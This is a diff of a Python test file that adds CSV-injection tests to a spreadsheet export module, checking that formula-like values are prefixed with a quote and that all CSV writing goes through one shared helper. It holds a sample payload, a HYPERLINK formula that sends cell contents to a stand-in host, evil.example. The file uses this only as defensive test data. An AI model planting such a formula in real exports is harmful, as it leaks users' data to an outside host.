@@ -2,6 +2,8 @@
 a formula is written as text (OWASP CSV injection), and control characters stored before they were
 refused are dropped instead of breaking the export."""
 
+import csv
+import io
 import re
 from io import BytesIO
 from pathlib import Path
@@ -10,7 +12,7 @@ import pytest
 from openpyxl import load_workbook
 
 from kefu.accounts.tests.factories import ServiceAreaFactory
-from kefu.core.excel import export_workbook, styled_cells
+from kefu.core.excel import export_csv_writer, export_workbook, styled_cells
 from kefu.customers.tests.factories import CustomerFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
@@ -99,6 +101,36 @@ def test_no_module_builds_a_workbook_or_a_cell_outside_the_shared_helper():
         if path != helper
         and "tests" not in path.parts
         and re.search(r"\b(Workbook|WriteOnlyCell|Cell)\(", path.read_text(encoding="utf-8"))
+    ]
+
+    # then
+    assert offenders == []
+
+
+@pytest.mark.parametrize("value", RISKY[:-1])
+def test_a_csv_value_a_spreadsheet_would_run_gets_the_quote_that_keeps_it_text(value):
+    # given a CSV written through the shared writer
+    output = io.StringIO()
+
+    # when
+    export_csv_writer(output).writerow(["第3行", value, 42])
+
+    # then the same rule as the Excel cells: a leading ' ; other values untouched
+    assert next(csv.reader(io.StringIO(output.getvalue()))) == ["第3行", "'" + value, "42"]
+
+
+def test_no_module_writes_a_csv_outside_the_shared_writer():
+    # given
+    root = Path(__file__).resolve().parents[2]
+    helper = root / "core" / "excel.py"
+
+    # when
+    offenders = [
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if path != helper
+        and "tests" not in path.parts
+        and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
     ]
 
     # then
